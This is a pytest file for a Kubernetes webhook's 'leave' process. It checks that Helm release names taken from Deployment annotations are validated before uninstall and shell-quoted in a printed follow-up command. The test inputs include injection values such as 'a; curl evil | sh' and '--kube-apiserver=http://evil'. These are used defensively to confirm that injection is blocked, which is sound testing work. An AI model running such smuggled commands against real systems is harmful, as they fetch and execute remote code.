"""What ``leave`` does with an agent's Deployment that names a Helm release; `e2e/members` has whole departures."""

import os
import shlex
import sys

import pytest

from webhook.kube.ports import NotFoundError
from webhook.processes.agent_installation import Helm
from webhook.processes.leave import Leave, LeaveOptions
from webhook.processes.sides import Side

DEPLOYMENTS = "/apis/apps/v1/namespaces/quay/deployments"


class Server:
    """A cluster with one Deployment of an agent, in the place of a `webhook.kube.client.api_server.ApiServer`."""

    def __init__(self, release, *, from_join=True):
        labels = {"app.kubernetes.io/name": "harbormaster-agent"}
        labels |= {"harbormaster.dev/made-by": "join"} if from_join else {}
        metadata = {"name": "port", "namespace": "quay", "uid": "1", "labels": labels}
        self.agent = {"metadata": {**metadata, "annotations": {"meta.helm.sh/release-name": release}}}

    async def request(self, _method, path, *_, **__):
        if str(path) != DEPLOYMENTS:
            raise NotFoundError(str(path))
        return {"metadata": {"resourceVersion": "1"}, "items": [self.agent]}


@pytest.fixture
def leave_with(tmp_path):
    """Return a departure from a cluster, and the file to which its helm writes its arguments."""
    program, called = tmp_path / "helm", tmp_path / "called"
    script = f"import sys\nopen({str(called)!r}, 'w').write(' '.join(sys.argv[1:3]))"
    program.write_text(f"#!{sys.executable}\n{script}", encoding="utf-8")
    program.chmod(0o755)
    helm = Helm(str(program), tmp_path / "kubeconfig", "member", "quay", os.environ)

    def departure(server):
        cluster = Side("member", "a member", server)
        return Leave(cluster, cluster, LeaveOptions("berlin", "quay", "quay"), lambda _: None, helm), called

    return departure


async def test_the_release_of_join_is_uninstalled(leave_with):
    leave, called = leave_with(Server("port"))
    assert await leave.clear(dry_run=False)
    assert called.read_text(encoding="utf-8") == "uninstall port"


@pytest.mark.parametrize("release", ["--kube-apiserver=http://evil", "a b", "\x1b[2J", "a\n"])
async def test_an_annotation_that_is_no_name_of_a_release_is_not_given_to_helm(leave_with, release):
    leave, called = leave_with(Server(release))
    assert not await leave.clear(dry_run=False)
    assert not called.exists()


async def test_the_command_for_a_remaining_agent_can_be_pasted_into_a_shell(leave_with):
    leave, _ = leave_with(Server("a; curl evil | sh", from_join=False))
    [remark] = await leave.follow_up(dry_run=False)
    command = remark.partition("To remove it: ")[2]
    words = ["helm", "uninstall", "a; curl evil | sh", "--namespace", "quay", "--kube-context", "a member"]
    assert shlex.split(command) == words
